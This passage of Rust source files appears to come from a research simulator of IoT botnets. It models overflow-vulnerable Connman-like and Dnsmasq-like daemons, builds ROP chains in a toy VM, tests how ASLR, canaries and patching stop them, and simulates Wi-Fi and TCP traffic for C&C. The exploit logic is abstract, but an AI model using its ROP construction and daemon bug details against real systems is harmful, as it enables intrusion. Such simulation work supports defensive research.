    g.insert(base_off + 0x11b4, GadgetOp::PopArg1);
    g.insert(base_off + 0x2f00, GadgetOp::SyscallExec);
    g.insert(base_off + 0x0042, GadgetOp::Ret);
    g
}

/// The Connman-like daemon image (`connmand`): overflow in DNS response
/// parsing, 512-byte stack buffer, leak primitive present (the DNS proxy
/// echoes attacker-influenced data).
pub fn connman_image(arch: Arch) -> BinaryImage {
    let salt = arch_salt(arch);
    BinaryImage {
        name: "connmand".to_owned(),
        arch,
        text_base: 0x5555_5555_0000,
        text_len: 0x4_0000,
        gadgets: gadget_table(salt),
        vuln: VulnSpec {
            buffer_len: 512,
            gap_to_ra: 8,
            max_input: 1024,
        },
        leak: Some(LeakSpec {
            leaked_symbol_addr: 0x5555_5555_0000 + salt + 0x11a0,
        }),
        size_bytes: 1_640_000,
    }
}

/// The Dnsmasq-like daemon image (`dnsmasq`): overflow while handling
/// DHCPv6 RELAY-FORW link addresses, 96-byte stack buffer.
pub fn dnsmasq_image(arch: Arch) -> BinaryImage {
    let salt = arch_salt(arch);
    BinaryImage {
        name: "dnsmasq".to_owned(),
        arch,
        text_base: 0x5555_aaaa_0000,
        text_len: 0x6_0000,
        gadgets: gadget_table(salt + 0x500),
        vuln: VulnSpec {
            buffer_len: 96,
            gap_to_ra: 24,
            max_input: 600,
        },
        leak: Some(LeakSpec {
            leaked_symbol_addr: 0x5555_aaaa_0000 + salt + 0x500 + 0x11a0,
        }),
        size_bytes: 810_000,
    }
}

/// A patched build of the Connman-like daemon: the copy path is
/// bounds-checked, so delivered inputs are truncated below the saved return
/// address. Used by the ablation experiments (binary-diversity insight).
pub fn patched_connman_image(arch: Arch) -> BinaryImage {
    let mut img = connman_image(arch);
    img.name = "connmand-patched".to_owned();
    // The patch clamps reads to the buffer: no input can reach the RA.
    img.vuln.max_input = img.vuln.buffer_len;
    img
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::process::{DeliveryOutcome, VulnProcess};
    use crate::protections::Protections;
    use crate::rop::RopChainBuilder;
    use rand::rngs::SmallRng;
    use rand::SeedableRng;
    use std::sync::Arc;

    #[test]
    fn images_are_distinct_per_binary() {
        let c = connman_image(Arch::X86_64);
        let d = dnsmasq_image(Arch::X86_64);
        assert_ne!(c.text_base, d.text_base);
        assert_ne!(c.vuln.buffer_len, d.vuln.buffer_len);
    }

    #[test]
    fn gadget_offsets_differ_per_arch() {
        let x = connman_image(Arch::X86_64);
        let a = connman_image(Arch::Arm7);
        assert_ne!(
            x.gadget_offset(GadgetOp::PopArg0),
            a.gadget_offset(GadgetOp::PopArg0)
        );
    }

    #[test]
    fn cross_arch_chain_fails() {
        // A chain built for x86 crashes an ARM process of the same binary.
        let x86 = connman_image(Arch::X86_64);
        let arm = Arc::new(connman_image(Arch::Arm7));
        let mut rng = SmallRng::seed_from_u64(1);
        let mut p = VulnProcess::start(arm, Protections::NONE, &mut rng);
        let chain = RopChainBuilder::new(&x86, 0).execlp("x").expect("builds");
        assert!(matches!(
            p.deliver_input(&chain.encode()),
            DeliveryOutcome::Crashed(_)
        ));
    }

    #[test]
    fn both_daemons_are_exploitable() {
        let mut rng = SmallRng::seed_from_u64(1);
        for img in [connman_image(Arch::X86_64), dnsmasq_image(Arch::X86_64)] {
            let img = Arc::new(img);
            let mut p = VulnProcess::start(Arc::clone(&img), Protections::WX, &mut rng);
            let chain = RopChainBuilder::new(&img, 0).execlp("cmd").expect("builds");
            assert!(p.deliver_input(&chain.encode()).is_exec(), "{}", img.name);
        }
    }

    #[test]
    fn patched_image_is_not_exploitable() {
        let img = Arc::new(patched_connman_image(Arch::X86_64));
        let mut rng = SmallRng::seed_from_u64(1);
        let mut p = VulnProcess::start(Arc::clone(&img), Protections::NONE, &mut rng);
        // Build the chain against the *unpatched* geometry (the attacker
        // doesn't know the device is patched).
        let unpatched = connman_image(Arch::X86_64);
        let chain = RopChainBuilder::new(&unpatched, 0).execlp("cmd").expect("builds");
        assert_eq!(p.deliver_input(&chain.encode()), DeliveryOutcome::Handled);
    }

    #[test]
    fn both_daemons_expose_leaks() {
        assert!(connman_image(Arch::X86_64).leak.is_some());
        assert!(dnsmasq_image(Arch::Mips).leak.is_some());
    }
}
