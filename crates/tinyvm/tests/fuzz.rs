//! Property-based robustness tests for the memory-error machine: whatever
//! bytes arrive, the model must stay total (no panics) and must never leak
//! execution capability it shouldn't.

use proptest::prelude::*;
use rand::rngs::SmallRng;
use rand::SeedableRng;
use std::sync::Arc;
use tinyvm::{catalog, Arch, DeliveryOutcome, Protections, RopChainBuilder, VulnProcess};

proptest! {
    /// deliver_input is total: any input, any image, any protections.
    #[test]
    fn deliver_never_panics(
        input in proptest::collection::vec(any::<u8>(), 0..8192),
        seed in any::<u64>(),
        wx in any::<bool>(),
        aslr in any::<bool>(),
        canary in any::<bool>(),
        dnsmasq in any::<bool>(),
    ) {
        let image = if dnsmasq {
            Arc::new(catalog::dnsmasq_image(Arch::X86_64))
        } else {
            Arc::new(catalog::connman_image(Arch::X86_64))
        };
        let mut rng = SmallRng::seed_from_u64(seed);
        let mut p = VulnProcess::start(image, Protections { wx, aslr, canary }, &mut rng);
        let _ = p.deliver_input(&input);
        // And again on the (possibly dead) process.
        let _ = p.deliver_input(&input);
    }

    /// A canaried process never reaches chain execution, whatever arrives.
    #[test]
    fn canary_blocks_all_hijacks(
        input in proptest::collection::vec(any::<u8>(), 0..4096),
        seed in any::<u64>(),
    ) {
        let image = Arc::new(catalog::connman_image(Arch::X86_64));
        let mut rng = SmallRng::seed_from_u64(seed);
        let mut p = VulnProcess::start(
            image,
            Protections { wx: false, aslr: false, canary: true },
            &mut rng,
        );
        let out = p.deliver_input(&input);
        prop_assert!(
            !out.is_exec() && !matches!(out, DeliveryOutcome::Blocked(_)),
            "canaried daemon must only handle or crash: {out:?}"
        );
    }

    /// Chain description never panics and mentions every word.
    #[test]
    fn describe_is_total(slide_pages in 0u64..0xFFFF, cmd in "[ -~]{1,48}") {
        let image = catalog::dnsmasq_image(Arch::X86_64);
        let slide = slide_pages * 0x1000;
        if let Ok(chain) = RopChainBuilder::new(&image, slide).execlp(&cmd) {
            let text = chain.describe(&image, slide);
            let annotated_lines = text.lines().filter(|l| l.trim_start().starts_with('[')).count();
            prop_assert_eq!(annotated_lines, chain.words.len(), "one line per word");
        }
    }

    /// Restart always revives the process; under ASLR the slide space is
    /// large enough that repeated restarts rarely repeat (no assertion on
    /// inequality — just totality and liveness).
    #[test]
    fn restart_revives(seed in any::<u64>()) {
        let image = Arc::new(catalog::connman_image(Arch::X86_64));
        let mut rng = SmallRng::seed_from_u64(seed);
        let mut p = VulnProcess::start(Arc::clone(&image), Protections::ASLR, &mut rng);
        // Kill it with a garbage overflow.
        let garbage = vec![0xEEu8; image.vuln.ra_offset() + 16];
        let _ = p.deliver_input(&garbage);
        prop_assert!(!p.is_alive());
        p.restart(&mut rng);
        prop_assert!(p.is_alive());
        prop_assert!(matches!(p.deliver_input(b"ok"), DeliveryOutcome::Handled));
    }
}

#[test]
fn slides_are_page_aligned_and_nonzero_under_aslr() {
    let image = Arc::new(catalog::connman_image(Arch::X86_64));
    let mut rng = SmallRng::seed_from_u64(7);
    for _ in 0..200 {
        let p = VulnProcess::start(Arc::clone(&image), Protections::ASLR, &mut rng);
        assert_ne!(p.slide(), 0);
        assert_eq!(p.slide() % 0x1000, 0, "page-aligned slide");
    }
}

#[test]
fn repeated_restarts_rerandomize() {
    let image = Arc::new(catalog::connman_image(Arch::X86_64));
    let mut rng = SmallRng::seed_from_u64(8);
    let mut p = VulnProcess::start(Arc::clone(&image), Protections::ASLR, &mut rng);
    let mut slides = std::collections::HashSet::new();
    for _ in 0..50 {
        slides.insert(p.slide());
        p.restart(&mut rng);
    }
    assert!(slides.len() > 40, "slides should rarely repeat: {}", slides.len());
}
