//! Simulated time.
//!
//! The simulator clock is a monotonically non-decreasing [`SimTime`] measured
//! in nanoseconds since the start of the simulation. Durations use
//! [`std::time::Duration`] so callers can write `Duration::from_secs(100)`
//! naturally.

use std::fmt;
use std::ops::{Add, AddAssign, Sub};
use std::time::Duration;

/// A point in simulated time, in nanoseconds since simulation start.
///
/// # Examples
///
/// ```
/// use netsim::SimTime;
/// use std::time::Duration;
///
/// let t = SimTime::ZERO + Duration::from_millis(250);
/// assert_eq!(t.as_secs_f64(), 0.25);
/// ```
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Default)]
pub struct SimTime(u64);

impl SimTime {
    /// The start of the simulation.
    pub const ZERO: SimTime = SimTime(0);

    /// The largest representable simulated time.
    pub const MAX: SimTime = SimTime(u64::MAX);

    /// Creates a time from whole nanoseconds.
    pub const fn from_nanos(nanos: u64) -> Self {
        SimTime(nanos)
    }

    /// Creates a time from whole microseconds.
    pub const fn from_micros(micros: u64) -> Self {
        SimTime(micros * 1_000)
    }

    /// Creates a time from whole milliseconds.
    pub const fn from_millis(millis: u64) -> Self {
        SimTime(millis * 1_000_000)
    }

    /// Creates a time from whole seconds.
    pub const fn from_secs(secs: u64) -> Self {
        SimTime(secs * 1_000_000_000)
    }

    /// Creates a time from fractional seconds.
    ///
    /// # Panics
    ///
    /// Panics if `secs` is negative or not finite.
    pub fn from_secs_f64(secs: f64) -> Self {
        assert!(secs.is_finite() && secs >= 0.0, "invalid sim time: {secs}");
        SimTime((secs * 1e9).round() as u64)
    }

    /// This time expressed in whole nanoseconds.
    pub const fn as_nanos(self) -> u64 {
        self.0
    }

    /// This time expressed in fractional seconds.
    pub fn as_secs_f64(self) -> f64 {
        self.0 as f64 / 1e9
    }

    /// This time expressed in whole seconds (truncated).
    pub const fn as_secs(self) -> u64 {
        self.0 / 1_000_000_000
    }

    /// Saturating subtraction of another time, yielding a duration.
    pub fn saturating_since(self, earlier: SimTime) -> Duration {
        Duration::from_nanos(self.0.saturating_sub(earlier.0))
    }

    /// Saturating addition of a duration.
    pub fn saturating_add(self, d: Duration) -> SimTime {
        SimTime(self.0.saturating_add(duration_to_nanos(d)))
    }
}

fn duration_to_nanos(d: Duration) -> u64 {
    u64::try_from(d.as_nanos()).unwrap_or(u64::MAX)
}

impl Add<Duration> for SimTime {
    type Output = SimTime;

    fn add(self, rhs: Duration) -> SimTime {
        self.saturating_add(rhs)
    }
}

impl AddAssign<Duration> for SimTime {
    fn add_assign(&mut self, rhs: Duration) {
        *self = *self + rhs;
    }
}

impl Sub<SimTime> for SimTime {
    type Output = Duration;

    fn sub(self, rhs: SimTime) -> Duration {
        self.saturating_since(rhs)
    }
}

impl fmt::Display for SimTime {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{:.6}s", self.as_secs_f64())
    }
}

/// Computes the serialization delay of `bytes` bytes on a link of
/// `rate_bps` bits per second.
///
/// # Panics
///
/// Panics if `rate_bps` is zero.
///
/// # Examples
///
/// ```
/// use netsim::time::tx_delay;
/// use std::time::Duration;
///
/// // 1250 bytes at 1 Mbps = 10 ms.
/// assert_eq!(tx_delay(1250, 1_000_000), Duration::from_millis(10));
/// ```
pub fn tx_delay(bytes: u64, rate_bps: u64) -> Duration {
    assert!(rate_bps > 0, "link rate must be positive");
    let bits = bytes as u128 * 8;
    let nanos = bits * 1_000_000_000 / rate_bps as u128;
    Duration::from_nanos(u64::try_from(nanos).unwrap_or(u64::MAX))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn constructors_agree() {
        assert_eq!(SimTime::from_secs(2), SimTime::from_millis(2000));
        assert_eq!(SimTime::from_millis(3), SimTime::from_micros(3000));
        assert_eq!(SimTime::from_micros(5), SimTime::from_nanos(5000));
    }

    #[test]
    fn add_duration() {
        let t = SimTime::from_secs(1) + Duration::from_millis(500);
        assert_eq!(t, SimTime::from_millis(1500));
    }

    #[test]
    fn sub_yields_duration() {
        let a = SimTime::from_secs(5);
        let b = SimTime::from_secs(2);
        assert_eq!(a - b, Duration::from_secs(3));
        // Saturating: no underflow.
        assert_eq!(b - a, Duration::ZERO);
    }

    #[test]
    fn from_secs_f64_rounds() {
        assert_eq!(SimTime::from_secs_f64(0.5), SimTime::from_millis(500));
    }

    #[test]
    #[should_panic(expected = "invalid sim time")]
    fn from_secs_f64_rejects_negative() {
        let _ = SimTime::from_secs_f64(-1.0);
    }

    #[test]
    fn tx_delay_basic() {
        // 100 kbps, 12500 bytes => 1 s
        assert_eq!(tx_delay(12_500, 100_000), Duration::from_secs(1));
        assert_eq!(tx_delay(0, 100_000), Duration::ZERO);
    }

    #[test]
    fn display_formats_seconds() {
        assert_eq!(SimTime::from_millis(1500).to_string(), "1.500000s");
    }

    #[test]
    fn ordering() {
        assert!(SimTime::from_secs(1) < SimTime::from_secs(2));
        assert!(SimTime::ZERO < SimTime::MAX);
    }
}
