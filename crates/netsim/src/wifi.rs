//! Shared-medium (Wi-Fi-like) channel with simplified CSMA/CA contention.
//!
//! Used by the hardware-reference validation scenario (`testbed` crate) to
//! model the paper's physical setup: Raspberry-Pi Devs associated to a
//! Netgear router over 802.11. The model is a *simplified DCF*: one station
//! transmits at a time, stations sense the medium and defer, and each
//! transmission attempt collides with probability derived from the number of
//! concurrently contending stations (a slotted-contention approximation).
//! Collisions double the contention window and retry up to a limit, after
//! which the frame is dropped. This reproduces the throughput degradation a
//! real shared medium exhibits as station count grows, without simulating
//! per-slot PHY state.

use crate::ids::IfaceId;
use crate::packet::Packet;
use std::collections::VecDeque;
use std::time::Duration;

/// Configuration of a shared Wi-Fi-like channel.
#[derive(Debug, Clone, PartialEq)]
pub struct WifiConfig {
    /// PHY rate in bits per second (shared by all stations).
    pub rate_bps: u64,
    /// Propagation delay to any station.
    pub delay: Duration,
    /// Contention slot time.
    pub slot: Duration,
    /// DIFS (sensing gap before contention).
    pub difs: Duration,
    /// Minimum contention window (slots).
    pub cw_min: u32,
    /// Maximum contention window (slots).
    pub cw_max: u32,
    /// Retransmission attempts before a frame is dropped.
    pub max_retries: u32,
    /// Independent per-frame random loss probability (interference).
    pub loss_probability: f64,
    /// Maximum bytes queued per station.
    pub queue_capacity_bytes: u64,
}

impl Default for WifiConfig {
    fn default() -> Self {
        WifiConfig {
            rate_bps: 54_000_000,
            delay: Duration::from_micros(3),
            slot: Duration::from_micros(9),
            difs: Duration::from_micros(34),
            cw_min: 16,
            cw_max: 1024,
            max_retries: 7,
            loss_probability: 0.0,
            queue_capacity_bytes: 256 * 1024,
        }
    }
}

/// Per-station transmitter state.
#[derive(Debug, Default, Clone)]
pub(crate) struct Station {
    pub iface: IfaceId,
    pub queue: VecDeque<Packet>,
    pub queued_bytes: u64,
    pub retries: u32,
    /// Whether a `WifiAttempt` event is already scheduled for this station.
    pub attempt_pending: bool,
    /// Whether the head frame is currently on the air (its delivery event
    /// is scheduled; it must not be double-counted by a flush).
    pub in_flight: bool,
    /// Transmission generation, used to ignore stale `WifiTxComplete`
    /// events after a flush invalidated the transmitter state.
    pub tx_gen: u64,
    /// Application-level egress shaping rate in bps (`None` = unshaped).
    /// Frames still serialize at the PHY rate; shaping spaces successive
    /// transmissions (token-bucket with zero burst) — how the paper's lab
    /// limits its Raspberry Pis to IoT data rates.
    pub shaping_rate_bps: Option<u64>,
    /// Earliest simulated time (nanos) the next transmission may start,
    /// per the shaping rate.
    pub next_allowed_tx_nanos: u64,
}

/// A shared channel joining many station interfaces, optionally with a
/// designated gateway (access-point/router uplink) station.
#[derive(Debug, Clone)]
pub struct WifiChannel {
    pub(crate) config: WifiConfig,
    pub(crate) stations: Vec<Station>,
    /// Station index acting as the gateway for off-channel destinations.
    pub(crate) gateway: Option<usize>,
    /// Simulated time (nanos) until which the medium is busy.
    pub(crate) busy_until_nanos: u64,
}

impl WifiChannel {
    pub(crate) fn new(config: WifiConfig) -> Self {
        WifiChannel {
            config,
            stations: Vec::new(),
            gateway: None,
            busy_until_nanos: 0,
        }
    }

    /// The channel configuration.
    pub fn config(&self) -> &WifiConfig {
        &self.config
    }

    pub(crate) fn add_station(&mut self, iface: IfaceId) -> usize {
        // The per-station queue starts unallocated and grows on first
        // contention; preallocating for the byte cap cost ~8 KiB per idle
        // station at scale.
        self.stations.push(Station {
            iface,
            ..Station::default()
        });
        self.stations.len() - 1
    }

    /// Sets application-level egress shaping for a station.
    pub fn set_station_shaping(&mut self, station: usize, rate_bps: u64) {
        self.stations[station].shaping_rate_bps = Some(rate_bps);
    }

    /// Number of stations that currently have frames to send.
    pub(crate) fn contenders(&self) -> usize {
        self.stations.iter().filter(|s| !s.queue.is_empty()).count()
    }

    /// Collision probability for one attempt given `n` contenders, using a
    /// slotted-contention approximation: the attempt succeeds only if no
    /// other contender picked the same backoff slot out of `cw` slots.
    pub(crate) fn collision_probability(&self, contenders: usize, cw: u32) -> f64 {
        if contenders <= 1 {
            return 0.0;
        }
        let p_other_same_slot = 1.0 / f64::from(cw.max(1));
        1.0 - (1.0 - p_other_same_slot).powi(contenders as i32 - 1)
    }

    /// Current contention window for a station given its retry count.
    pub(crate) fn cw_for_retries(&self, retries: u32) -> u32 {
        (self.config.cw_min << retries.min(16)).min(self.config.cw_max)
    }

    /// Queues a frame at `station`. Returns `false` if dropped (overflow).
    pub(crate) fn enqueue(&mut self, station: usize, packet: Packet) -> bool {
        let cap = self.config.queue_capacity_bytes;
        let st = &mut self.stations[station];
        let bytes = u64::from(packet.wire_bytes());
        if st.queued_bytes + bytes > cap {
            return false;
        }
        st.queued_bytes += bytes;
        st.queue.push_back(packet);
        true
    }

    /// The frame at the head of `station`'s queue.
    pub(crate) fn head(&self, station: usize) -> Option<&Packet> {
        self.stations[station].queue.front()
    }

    /// Removes and returns the frame at the head of `station`'s queue.
    pub(crate) fn pop_head(&mut self, station: usize) -> Option<Packet> {
        let st = &mut self.stations[station];
        let pkt = st.queue.pop_front()?;
        st.queued_bytes = st.queued_bytes.saturating_sub(u64::from(pkt.wire_bytes()));
        Some(pkt)
    }

    /// Bytes buffered across all stations.
    pub fn buffered_bytes(&self) -> u64 {
        self.stations.iter().map(|s| s.queued_bytes).sum()
    }

    /// Drops all frames queued at `station`; returns how many were dropped
    /// (a frame on the air is excluded — its delivery event accounts for
    /// it).
    pub(crate) fn flush_station(&mut self, station: usize) -> usize {
        let st = &mut self.stations[station];
        let in_flight = usize::from(st.in_flight && !st.queue.is_empty());
        let n = st.queue.len() - in_flight;
        st.queue.clear();
        st.queued_bytes = 0;
        st.retries = 0;
        st.attempt_pending = false;
        st.in_flight = false;
        st.tx_gen += 1;
        n
    }

    /// Folds the channel's contention state into a checkpoint digest:
    /// every station's queue, retry/backoff bookkeeping, shaping state,
    /// the gateway designation, and the medium-busy horizon.
    pub(crate) fn state_digest(&self, h: &mut crate::digest::StateHasher) {
        h.write_usize(self.stations.len());
        for st in &self.stations {
            h.write_usize(st.iface.index());
            h.write_usize(st.queue.len());
            for pkt in &st.queue {
                pkt.state_digest(h);
            }
            h.write_u64(st.queued_bytes);
            h.write_u32(st.retries);
            h.write_bool(st.attempt_pending);
            h.write_bool(st.in_flight);
            h.write_u64(st.tx_gen);
            match st.shaping_rate_bps {
                None => h.write_bool(false),
                Some(r) => {
                    h.write_bool(true);
                    h.write_u64(r);
                }
            }
            h.write_u64(st.next_allowed_tx_nanos);
        }
        match self.gateway {
            None => h.write_bool(false),
            Some(g) => {
                h.write_bool(true);
                h.write_usize(g);
            }
        }
        h.write_u64(self.busy_until_nanos);
    }

    /// Resolves the station index that owns `iface`, if any.
    pub(crate) fn station_of(&self, iface: IfaceId) -> Option<usize> {
        self.stations.iter().position(|s| s.iface == iface)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::packet::Payload;
    use std::net::{IpAddr, Ipv4Addr, SocketAddr};

    fn pkt() -> Packet {
        let a = SocketAddr::new(IpAddr::V4(Ipv4Addr::new(10, 0, 0, 1)), 1);
        Packet::udp(a, a, Payload::empty(), 100)
    }

    fn chan(n: usize) -> WifiChannel {
        let mut c = WifiChannel::new(WifiConfig::default());
        for i in 0..n {
            c.add_station(IfaceId::from_index(i));
        }
        c
    }

    #[test]
    fn collision_probability_grows_with_contenders() {
        let c = chan(0);
        let p1 = c.collision_probability(1, 16);
        let p2 = c.collision_probability(2, 16);
        let p10 = c.collision_probability(10, 16);
        assert_eq!(p1, 0.0);
        assert!(p2 > 0.0);
        assert!(p10 > p2);
        assert!(p10 < 1.0);
    }

    #[test]
    fn collision_probability_shrinks_with_larger_cw() {
        let c = chan(0);
        assert!(c.collision_probability(5, 1024) < c.collision_probability(5, 16));
    }

    #[test]
    fn cw_doubles_and_saturates() {
        let c = chan(0);
        assert_eq!(c.cw_for_retries(0), 16);
        assert_eq!(c.cw_for_retries(1), 32);
        assert_eq!(c.cw_for_retries(10), 1024);
    }

    #[test]
    fn enqueue_respects_capacity() {
        let mut c = WifiChannel::new(WifiConfig {
            queue_capacity_bytes: 200,
            ..WifiConfig::default()
        });
        c.add_station(IfaceId::from_index(0));
        assert!(c.enqueue(0, pkt()));
        assert!(!c.enqueue(0, pkt()));
    }

    #[test]
    fn contenders_counts_nonempty_queues() {
        let mut c = chan(3);
        assert_eq!(c.contenders(), 0);
        c.enqueue(0, pkt());
        c.enqueue(2, pkt());
        assert_eq!(c.contenders(), 2);
    }

    #[test]
    fn flush_station_clears_state() {
        let mut c = chan(1);
        c.enqueue(0, pkt());
        c.stations[0].retries = 3;
        assert_eq!(c.flush_station(0), 1);
        assert_eq!(c.buffered_bytes(), 0);
        assert_eq!(c.stations[0].retries, 0);
    }

    #[test]
    fn station_of_resolves() {
        let c = chan(2);
        assert_eq!(c.station_of(IfaceId::from_index(1)), Some(1));
        assert_eq!(c.station_of(IfaceId::from_index(9)), None);
    }
}
