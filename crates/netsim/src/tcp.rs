//! "tcp-lite": a light reliable stream transport.
//!
//! Botnet control traffic (C&C registration, telnet sessions, HTTP
//! downloads) needs connections and reliable in-order delivery, but not a
//! full TCP implementation. tcp-lite provides: a three-way handshake,
//! per-message sequence numbers with positive acknowledgement, exponential
//! retransmission with a retry limit, in-order delivery with out-of-order
//! buffering, FIN/RST teardown, and failure notification. Flow/congestion
//! control are intentionally omitted — the data plane of the simulated
//! attacks is UDP, exactly as in the paper (Mirai UDP-PLAIN floods).

use crate::fastmap::FastMap;
use crate::ids::{AppId, NodeId};
use crate::packet::{Packet, Payload, TransportProto};
use std::collections::BTreeMap;
use std::fmt;
use std::net::{IpAddr, SocketAddr};
use std::time::Duration;

/// Handle to a tcp-lite connection endpoint.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct ConnId {
    pub(crate) node: NodeId,
    pub(crate) id: u64,
}

impl fmt::Display for ConnId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}#c{}", self.node, self.id)
    }
}

/// Connection events delivered to applications.
#[derive(Debug, Clone)]
pub enum TcpEvent {
    /// A listener accepted a new inbound connection.
    Incoming {
        /// The new connection.
        conn: ConnId,
        /// The remote endpoint.
        from: SocketAddr,
    },
    /// An outbound connection completed its handshake.
    Connected {
        /// The connection.
        conn: ConnId,
    },
    /// In-order application data arrived.
    Data {
        /// The connection.
        conn: ConnId,
        /// The message payload.
        payload: Payload,
        /// Payload size in bytes.
        bytes: u32,
    },
    /// The connection closed (peer FIN/RST, or local failure after
    /// exhausting retransmissions).
    Closed {
        /// The connection.
        conn: ConnId,
    },
    /// An outbound connection could not be established.
    ConnectFailed {
        /// The connection.
        conn: ConnId,
    },
}

/// Errors returned by tcp-lite operations.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TcpError {
    /// The connection does not exist or is closed.
    NotConnected,
    /// The port is already bound by another listener.
    PortInUse,
}

impl fmt::Display for TcpError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            TcpError::NotConnected => f.write_str("connection is not established"),
            TcpError::PortInUse => f.write_str("port is already bound"),
        }
    }
}

impl std::error::Error for TcpError {}

/// Segment kinds exchanged on the wire (as typed payloads).
#[derive(Debug, Clone)]
pub(crate) enum SegKind {
    Syn,
    SynAck,
    HandshakeAck,
    Data { seq: u64, payload: Payload, bytes: u32 },
    Ack { seq: u64 },
    Fin,
    Rst,
}

#[derive(Debug, Clone)]
pub(crate) struct TcpSeg {
    pub kind: SegKind,
}

const TCP_HEADER_BYTES: u32 = 40;
const MAX_RETRIES: u32 = 6;
const BASE_RTO: Duration = Duration::from_millis(200);
const MAX_RTO: Duration = Duration::from_secs(3);

fn rto_for(retries: u32) -> Duration {
    let rto = BASE_RTO.saturating_mul(1 << retries.min(8));
    rto.min(MAX_RTO)
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum ConnState {
    SynSent,
    SynReceived,
    Established,
}

#[derive(Debug, Clone)]
struct UnackedSeg {
    payload: Payload,
    bytes: u32,
    retries: u32,
}

#[derive(Debug, Clone)]
struct Conn {
    owner: AppId,
    local_addr: IpAddr,
    local_port: u16,
    peer: SocketAddr,
    state: ConnState,
    next_send_seq: u64,
    unacked: FastMap<u64, UnackedSeg>,
    handshake_retries: u32,
    recv_next: u64,
    recv_buffer: BTreeMap<u64, (Payload, u32)>,
}

/// Where a connection lives in the slab: a slot index plus the generation
/// the slot had when the connection moved in. A vacated slot bumps its
/// generation, so a reference from a previous tenancy can never resolve to
/// the new occupant.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct SlotRef {
    slot: u32,
    gen: u32,
}

/// Slab of connections keyed by their sequentially-allocated `u64` id.
///
/// Connection ids start at 1 and only ever count up (they appear verbatim
/// in telemetry traces, so allocation order is part of the deterministic
/// surface — ids are never reused). *Slots*, however, are reused: a
/// removed connection pushes its slot onto a LIFO free list with a bumped
/// generation tag, and the next insert takes it back. Memory is therefore
/// proportional to the peak number of simultaneously live connections —
/// not, as with the earlier front-compacted deque, to the id span between
/// the oldest and newest live connection (one long-lived C&C session used
/// to pin a slot for every short-lived scan connection allocated after
/// it). The free list is plain data, so reuse order is deterministic; id
/// ordering for digests comes from sorting the id index, never from slot
/// or hash order.
#[derive(Debug, Default, Clone)]
struct ConnSlab {
    slots: Vec<Option<Box<Conn>>>,
    /// Generation per slot, bumped each time the slot is vacated.
    gens: Vec<u32>,
    /// Live connection ids → their slot (with the generation stamped at
    /// insert). Never iterated directly into anything ordered.
    index: FastMap<u64, SlotRef>,
    /// Vacated slots available for reuse, last-vacated first (LIFO).
    free: Vec<u32>,
}

impl ConnSlab {
    /// Inserts a connection under a fresh `id`, reusing the most recently
    /// vacated slot if one exists.
    fn insert(&mut self, id: u64, conn: Conn) {
        debug_assert!(!self.index.contains_key(&id), "conn ids are never reused");
        let slot = match self.free.pop() {
            Some(slot) => slot,
            None => {
                let slot = u32::try_from(self.slots.len()).expect("< 2^32 live conns");
                self.slots.push(None);
                self.gens.push(0);
                slot
            }
        };
        self.slots[slot as usize] = Some(Box::new(conn));
        self.index.insert(id, SlotRef { slot, gen: self.gens[slot as usize] });
    }

    fn resolve(&self, id: u64) -> Option<u32> {
        let r = *self.index.get(&id)?;
        // The index only holds live ids, so the generation always matches;
        // the check is the slab's self-consistency guard.
        debug_assert_eq!(self.gens[r.slot as usize], r.gen, "stale slot reference");
        (self.gens[r.slot as usize] == r.gen).then_some(r.slot)
    }

    fn get(&self, id: u64) -> Option<&Conn> {
        self.slots[self.resolve(id)? as usize].as_deref()
    }

    fn get_mut(&mut self, id: u64) -> Option<&mut Conn> {
        let slot = self.resolve(id)?;
        self.slots[slot as usize].as_deref_mut()
    }

    fn remove(&mut self, id: u64) -> Option<Box<Conn>> {
        let slot = self.resolve(id)?;
        self.index.remove(&id);
        let conn = self.slots[slot as usize].take()?;
        self.gens[slot as usize] = self.gens[slot as usize].wrapping_add(1);
        self.free.push(slot);
        Some(conn)
    }

    fn clear(&mut self) {
        self.slots.clear();
        self.gens.clear();
        self.index.clear();
        self.free.clear();
    }

    fn len(&self) -> usize {
        self.index.len()
    }

    /// Live connections, in slot order — only for order-insensitive scans
    /// (`alloc_port`'s `any`); anything ordered must use [`ConnSlab::iter`].
    fn values(&self) -> impl Iterator<Item = &Conn> {
        self.slots.iter().filter_map(|s| s.as_deref())
    }

    /// Live `(id, conn)` pairs, in ascending id order (deterministic).
    fn iter(&self) -> impl Iterator<Item = (u64, &Conn)> {
        let mut ids: Vec<(u64, u32)> =
            self.index.iter().map(|(id, r)| (*id, r.slot)).collect();
        ids.sort_unstable_by_key(|(id, _)| *id);
        ids.into_iter().map(|(id, slot)| {
            (
                id,
                self.slots[slot as usize]
                    .as_deref()
                    .expect("indexed slot is live"),
            )
        })
    }

    /// Total slots ever allocated — the slab's memory footprint in units of
    /// `Option<Box<Conn>>`. Bounded by peak simultaneous liveness.
    #[cfg(test)]
    fn slot_capacity(&self) -> usize {
        self.slots.len()
    }
}

/// Actions the stack asks the simulator to perform.
#[derive(Debug)]
pub(crate) enum TcpAction {
    Send(Packet),
    Event(AppId, TcpEvent),
    /// Arm a retransmission timer; `seq == 0` covers the handshake.
    SetRto {
        conn: u64,
        seq: u64,
        after: Duration,
    },
}

/// Per-node tcp-lite state machine.
#[derive(Debug, Default, Clone)]
pub(crate) struct TcpStack {
    node: Option<NodeId>,
    listeners: FastMap<u16, AppId>,
    conns: ConnSlab,
    by_tuple: FastMap<(u16, SocketAddr), u64>,
    next_conn: u64,
    next_ephemeral: u16,
}

impl TcpStack {
    pub fn new(node: NodeId) -> Self {
        TcpStack {
            node: Some(node),
            next_ephemeral: 49152,
            next_conn: 1,
            ..TcpStack::default()
        }
    }

    fn node(&self) -> NodeId {
        self.node.expect("stack is initialized with a node")
    }

    pub fn listen(&mut self, port: u16, owner: AppId) -> Result<(), TcpError> {
        if self.listeners.contains_key(&port) {
            return Err(TcpError::PortInUse);
        }
